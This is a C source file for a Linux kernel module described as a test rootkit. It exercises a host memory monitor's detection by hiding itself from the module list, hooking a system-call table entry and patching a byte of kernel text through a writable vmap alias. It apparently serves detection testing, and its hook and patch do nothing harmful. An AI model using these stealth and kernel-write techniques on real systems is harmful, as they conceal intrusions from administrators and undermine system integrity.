// SPDX-License-Identifier: GPL-2.0
// A test rootkit for the guest, built against the guest kernel's own headers by build-guest.sh: it
// does, on request, what real ones do, so that hostmon's memory view is tested against them.
//   hide=1        takes itself off the kernel's module list (/proc/modules, lsmod no longer show it)
//   table=ADDR    the running address of sys_call_table (the test computes it from the profile and
//   hook=NR       the KASLR slide hostmon found), whose entry NR is pointed at a function of this
//                 module that calls the original
//   patch=1       changes one byte of kernel text: an int3 of the padding between two functions
//                 (never executed) becomes a nop, in the first run of six or more past kfree
// Writes to read-only kernel memory go through a second, writable mapping of the same page (vmap),
// as rootkits do when the kernel pins CR0.WP.
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/vmalloc.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Goldgate test rootkit (tests only)");

static bool hide;
module_param(hide, bool, 0);
static unsigned long table;
module_param(table, ulong, 0);
static int hook = -1;
module_param(hook, int, 0);
static bool patch;
module_param(patch, bool, 0);

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn original;

static long gg_hooked(const struct pt_regs *regs) { return original(regs); }

// Writes `len` bytes at kernel-image address `addr` through a writable alias of its page.
static int poke(unsigned long addr, const void *src, size_t len) {
  struct page *pg = pfn_to_page(__pa_symbol(addr) >> PAGE_SHIFT);
  void *w = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
  if (!w) return -ENOMEM;
  memcpy((char *)w + offset_in_page(addr), src, len);
  vunmap(w);
  return 0;
}

static int __init gg_init(void) {
  int err;
  if (table && hook >= 0 && hook < 512) {
    unsigned long *entry = (unsigned long *)table + hook;
    unsigned long fn = (unsigned long)gg_hooked;
    original = (syscall_fn)*entry;
    err = poke((unsigned long)entry, &fn, sizeof fn);
    if (err) return err;
    pr_info("gg_rootkit: system call %d hooked\n", hook);
  }
  if (patch) {
    const unsigned char *p = (const unsigned char *)kfree;
    unsigned long i;
    for (i = 0; i < 65536; ++i)
      if (!memchr_inv(p + i, 0xcc, 6)) {  // six int3 in a row: padding, not an instruction's bytes
        const unsigned char nop = 0x90;
        err = poke((unsigned long)(p + i + 3), &nop, 1);
        if (err) return err;
        pr_info("gg_rootkit: kernel text patched at kfree+%lu\n", i + 3);
        break;
      }
  }
  if (hide) {
    list_del_init(&THIS_MODULE->list);
    pr_info("gg_rootkit: off the module list\n");
  }
  return 0;
}

module_init(gg_init);
